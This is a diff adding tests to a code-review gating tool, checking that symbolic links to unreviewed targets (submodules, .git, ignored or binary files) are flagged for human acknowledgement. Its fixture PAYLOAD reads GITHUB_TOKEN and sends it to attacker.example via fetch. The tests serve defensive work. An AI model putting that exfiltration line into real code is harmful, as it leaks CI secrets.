@@ -2778,3 +2778,125 @@ describe('#414 what a file name or a NUL byte could do to what the agent reads',
     expect(parts.map((f) => readFileSync(join(folder, f), 'utf8')).join('')).toContain('+const SEP = "U+0000";');
   });
 });
+
+describe('#424 a selected link is reviewed only when it leads to what the review reads', () => {
+  const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
+  const link = (repo: string, path: string, target: string) => {
+    mkdirSync(dirname(join(repo, path)), { recursive: true });
+    symlinkSync(target, join(repo, path));
+  };
+  /** A gitlink `sub` in the base, its folder holding `evil.js` as a checked-out submodule would. */
+  const submodule = (repo: string) => {
+    git(repo, 'update-index', '--add', '--cacheinfo', `160000,${rev(repo, 'HEAD')},sub`);
+    write(repo, 'sub/evil.js', PAYLOAD);
+  };
+
+  /** Commits `before`, then a change that adds `path` -> `target` (and whatever `change` adds) beside a reviewed edit. */
+  function linked(path: string, target: string, before?: (repo: string) => void, change?: (repo: string) => void): string {
+    const repo = makeCartRepo();
+    before?.(repo);
+    commitAll(repo, 'base');
+    link(repo, path, target);
+    change?.(repo);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change: a link');
+    return repo;
+  }
+
+  it.each<[string, string, ((repo: string) => void)?, ((repo: string) => void)?]>([
+    ['to a path the head tree does not hold (../nothere/evil.js)', '../nothere/evil.js'],
+    ["into a submodule's folder (../sub/evil.js)", '../sub/evil.js', submodule],
+    ['to a submodule (../sub)', '../sub', submodule],
+    ["to the checkout's own folder, .git with it (..)", '..'],
+    ["through an unchanged link to the checkout's own folder (../lib/up -> ..)", '../lib/up', (repo) => link(repo, 'lib/up', '..')],
+    [
+      'through an unchanged link out of the repository (../lib/out -> ../../outside.js)',
+      '../lib/out',
+      (repo) => link(repo, 'lib/out', '../../outside.js'),
+    ],
+    [
+      'to a file the change adds and the review leaves out as binary (../assets/evil.js)',
+      '../assets/evil.js',
+      undefined,
+      (repo) => write(repo, 'assets/evil.js', Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0])),
+    ],
+    [
+      'through an unchanged link to a deleted file (../lib/current -> gone.js)',
+      '../lib/current',
+      (repo) => {
+        write(repo, 'lib/gone.js', PAYLOAD);
+        symlinkSync('gone.js', join(repo, 'lib/current'));
+      },
+      (repo) => rmSync(join(repo, 'lib/gone.js')),
+    ],
+  ])('#424 a link %s: unreviewedTarget, named for a person', async (_name, target, before, change) => {
+    const repo = linked('src/lib.js', target, before, change);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(repo).files.find((f) => f.path === 'src/lib.js')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+    expect(r.stdout).toMatch(/a person must look at \d+ changed file\(s\) no agent reviews: [^\n]*src\/lib\.js/);
+  });
+
+  it('#424 the issue: a link to a path absent from the head tree keeps the gate incomplete until a person acknowledges it', async () => {
+    const repo = linked('src/lib.js', '../nothere/evil.js');
+    await seal(repo, ['--base', 'HEAD~1', '--effort', 'low', '--dispatch', 'one']);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    const r = await gate(repo, {}, event);
+    expectIncomplete(r, /a person must look at each, then acknowledge it .*: src\/lib\.js/, rev(repo, 'HEAD'));
+    expect(
+      line(r.summary, /^\| .src\/lib\.js. \| a symbolic link that leads where no review reads: .*to a path the head tree does not hold/),
+    ).toBeDefined();
+    expect((await cliCase(repo, ['review', 'gate', ID])).code).toBe(2);
+    expect((await gate(repo, { acknowledge: 'src/lib.js' }, event)).outputs.verdict).toBe('clean');
+  });
+
+  it.each([
+    ['../.git/config', '../.git/config'],
+    ['../.git', '../.git'],
+    ['../.GIT/config', '../.GIT/config'],
+    ['an unchanged link to .git (../conf, conf -> .git)', '../conf'],
+  ])("#424 a link into .git (%s), where actions/checkout keeps the job's token: a secret link, never selected", async (_name, target) => {
+    const repo = linked('public/robots.txt', target, (r) => symlinkSync('.git', join(r, 'conf')));
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => f.path)).toEqual(['src/cart.js']);
+    expect(scope.excluded).toContainEqual({ path: 'public/robots.txt', reason: 'secret', link: true });
+    answer(repo);
+    expectIncomplete(
+      await gate(repo, {}, prEvent(repo, 'HEAD~1')),
+      /a person must look at each, then acknowledge it .*: public\/robots\.txt/,
+      rev(repo, 'HEAD'),
+    );
+  });
+
+  it('#424 --workspace: a link to an ignored file is to no file git holds, so a person looks', async () => {
+    const repo = makeCartRepo();
+    write(repo, '.gitignore', 'local/\n');
+    commitAll(repo, 'ignore local/');
+    write(repo, 'local/evil.js', PAYLOAD);
+    symlinkSync('../local/evil.js', join(repo, 'src/lib.js'));
+    const scope = await seal(repo, ['--workspace', '--base', 'HEAD']);
+    expect(scope.files.find((f) => f.path === 'src/lib.js')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+  });
+
+  it('#424 a link to unchanged tracked code, a tracked folder or a file the review selects stays an ordinary selected file', async () => {
+    const repo = linked(
+      'src/a.js',
+      'cart.js',
+      (r) => write(r, 'lib/util.js', 'export const u = 1;\n'),
+      (r) => {
+        symlinkSync('../lib', join(r, 'src/lib'));
+        write(r, 'src/new.js', 'export const n = 1;\n');
+        symlinkSync('new.js', join(r, 'src/b.js'));
+      },
+    );
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
+      ['src/a.js', undefined],
+      ['src/b.js', undefined],
+      ['src/cart.js', undefined],
+      ['src/lib', undefined],
+      ['src/new.js', undefined],
+    ]);
+  });
+});
